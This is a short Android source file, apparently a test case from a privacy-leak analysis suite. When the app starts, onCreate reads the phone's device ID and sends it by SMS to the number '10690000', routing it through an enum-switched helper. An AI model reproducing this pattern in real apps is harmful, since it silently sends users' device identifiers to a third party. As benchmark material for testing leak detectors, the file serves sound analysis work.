package cn.privlens.suite.enum_argument;

import android.app.*;
import android.content.*;
import android.database.*;
import android.net.Uri;
import android.os.*;
import android.telephony.*;
import java.util.*;
import java.util.concurrent.*;

public class Main extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        put(Kind.SEND, ((TelephonyManager) getSystemService(TELEPHONY_SERVICE)).getDeviceId());
        put(Kind.DROP, "plain");
    }

    private void put(Kind kind, String text) {
        switch (kind) {
            case SEND:
                SmsManager.getDefault().sendTextMessage("10690000", null, text, null, null);
                break;
            default:
                setTitle(kind.name());
                break;
        }
    }
}
